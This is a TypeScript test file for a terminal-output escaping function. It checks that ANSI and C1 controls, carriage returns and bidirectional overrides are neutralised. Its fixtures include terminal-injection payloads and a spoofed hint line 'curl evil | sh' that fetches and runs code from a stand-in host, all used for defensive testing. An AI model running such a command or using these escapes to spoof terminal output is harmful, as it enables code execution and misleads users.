/**
 * TerminalText.escape: what a terminal would obey is shown, never obeyed; everything else is
 * left alone; JSON stays JSON. Property runs print their seed (replay with FC_SEED=<seed>).
 */
import { describe, expect, it } from "@effect/vitest"
import * as fc from "fast-check"
import { TerminalText } from "../src/index.js"

const seed = process.env["FC_SEED"] === undefined ? Date.now() % 2 ** 31 : Number(process.env["FC_SEED"])
console.log(`fast-check seed: ${seed} (replay with FC_SEED=${seed})`)

// oxlint-disable-next-line no-control-regex -- the characters a terminal obeys
const obeyed = /[\u0000-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

describe("TerminalText.escape", () => {
  it.each([
    ["an ANSI colour and a title change", "amd64\u001b[31m\u001b]0;pwned\u0007", "amd64\\u001b[31m\\u001b]0;pwned\\u0007"],
    ["a carriage return that would overwrite the line", "ok\rkrunbox: hint: curl evil | sh", "ok\\rkrunbox: hint: curl evil | sh"],
    ["a newline that fakes a second line, and a tab", "x\nkrunbox: done\t!", "x\\nkrunbox: done\\t!"],
    ["a C1 CSI, DEL and NUL", "a\u009b2Jb\u007fc\u0000", "a\\u009b2Jb\\u007fc\\u0000"],
    ["bidirectional overrides and a line separator", "abc\u202etxt.exe\u2066\u2028", "abc\\u202etxt.exe\\u2066\\u2028"],
    ["text without controls, backslashes and non-ASCII letters", "C:\\path é 🌎 sha256:ab", "C:\\path é 🌎 sha256:ab"]
  ])("%s", (_name, input, expected) => {
    expect(TerminalText.escape(input)).toBe(expected)
  })

  it("keeps line breaks on request, for output krunbox lays out itself", () => {
    expect(TerminalText.escape("{\n  \"a\": \"\u001b\"\n}", { keepNewlines: true })).toBe("{\n  \"a\": \"\\u001b\"\n}")
  })

  it("leaves nothing a terminal obeys, and changes nothing else (10,000 strings)", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 60 }), (text) => {
        const shown = TerminalText.escape(text)
        expect(obeyed.test(shown)).toBe(false)
        if (!obeyed.test(text)) expect(shown).toBe(text)
      }),
      { numRuns: 10_000, seed }
    )
  })

  it("escaped JSON text is still JSON with the same value (10,000 values)", () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string({ unit: "binary", maxLength: 30 }), (value, key) => {
        const json = JSON.stringify({ [key]: value }, null, 2)
        const shown = TerminalText.escape(json, { keepNewlines: true })
        expect(obeyed.test(shown.replaceAll("\n", ""))).toBe(false)
        expect(JSON.parse(shown)).toEqual(JSON.parse(json))
      }),
      { numRuns: 10_000, seed }
    )
  })
})
